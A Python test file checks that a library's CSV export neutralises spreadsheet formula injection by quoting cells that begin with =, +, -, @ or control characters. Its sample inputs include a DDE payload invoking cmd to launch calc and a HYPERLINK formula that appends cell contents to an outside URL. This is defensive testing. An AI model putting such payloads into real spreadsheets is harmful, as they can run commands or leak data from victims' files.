"""CSV for spreadsheets: nothing in it is run, and everything can be read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retouch_lib.work.spreadsheet import GUARD, to_csv

DOCS = Path(__file__).parents[3] / "docs" / "history.md"
RUN = [
    '=HYPERLINK("https://example.test/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
]
SIGNS = st.text(st.sampled_from("'=+-@\t\r\n,;\"aé＝"), max_size=8)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert cells(to_csv(pd.DataFrame({"project": ["Hill", text]})))[1:] == [["Hill"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["balanced", "'round midnight", "a=b", "DSC-1.jpg", "5 - 3", "", "’=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cells(to_csv(pd.DataFrame({"project": ["x", text]})))[2] == ([text] if text else [""])


def test_a_line_break_in_a_text_begins_no_row() -> None:
    for text in ("a\r=1+1", "a\n=1+1", 'a"\r"=1+1'):
        assert cells(to_csv(pd.DataFrame({"project": [text]})))[1:] == [[text]]


def test_numbers_times_and_gaps_stay_what_they_are() -> None:
    at = pd.Timestamp("2026-03-01 12:00", tz="UTC")
    frame = pd.DataFrame(
        {
            "credits": pd.Series([-1, None], dtype="Int64"),
            "seconds": [-0.5, 2.0],
            "at": [at, at],
            "name": pd.Series(["=1", None], dtype="str"),
        }
    )
    assert cells(to_csv(frame))[1:] == [["-1", "-0.5", str(at), "'=1"], ["", "2.0", str(at), ""]]


@given(st.lists(SIGNS, min_size=1, max_size=5))
def test_every_text_comes_back(texts: list[str]) -> None:
    data = to_csv(pd.DataFrame({"name": pd.Series(texts, dtype="str"), "last": 1}))
    read = pd.read_csv(io.BytesIO(data), dtype={"name": "str"}, keep_default_na=False)["name"]
    assert not any(text[:1] in tuple("=+-@\t\r\n＝") for text in read if text)
    assert read.str.replace(GUARD, "", regex=True).to_list() == texts


def test_the_documents_say_how_it_is_read_back() -> None:
    assert "from retouch_lib.work.spreadsheet import GUARD" in DOCS.read_text()
    assert '.str.replace(GUARD, "", regex=True)' in DOCS.read_text()
